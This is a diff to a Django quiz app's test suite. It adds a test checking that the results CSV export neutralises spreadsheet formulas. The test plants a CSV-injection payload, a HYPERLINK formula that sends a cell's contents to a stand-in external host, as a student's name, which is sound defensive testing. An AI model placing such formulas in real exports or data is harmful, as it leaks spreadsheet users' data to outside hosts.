@@ -3,7 +3,9 @@ item analytics on a crafted data set, overrides, and who sees which attempts."""
 
 from __future__ import annotations
 
+import csv
 import datetime as dt
+import io
 
 import pytest
 from django.utils import timezone
@@ -210,3 +212,17 @@ def test_a_teacher_sees_only_their_own_students_in_a_colleagues_quiz(api, cast, 
     assert [r["name"] for r in rows] == ["Sia Student"]
     rows = api(cast.admin).get(f"/api/v1/quizzes/{quiz['id']}/results/").json()["rows"]
     assert [r["name"] for r in rows] == ["Sam Student", "Oscar Other", "Sia Student"]
+
+
+def test_results_csv_neutralises_formula_cells(api, cast, make_quiz, Q):
+    formula = '=HYPERLINK("https://x.example/?"&A2,"Report")'
+    cast.student.user.full_name = formula
+    cast.student.user.save()
+    quiz = make_quiz(title="@Algebra")
+    take(api, cast.student.user, quiz, (Q.single, "b"))
+    response = api(cast.teacher.user).get(f"/api/v1/quizzes/{quiz['id']}/results/?format=csv")
+    assert response.status_code == 200
+    table = list(csv.reader(io.StringIO(response.content.decode())))
+    assert table[0] == ["'@Algebra"]
+    assert table[2][:3] == ["7-A", "1", "'" + formula]
+    assert table[2][3:8] == ["1", "1", "2.00", "6.00", "33.33"]
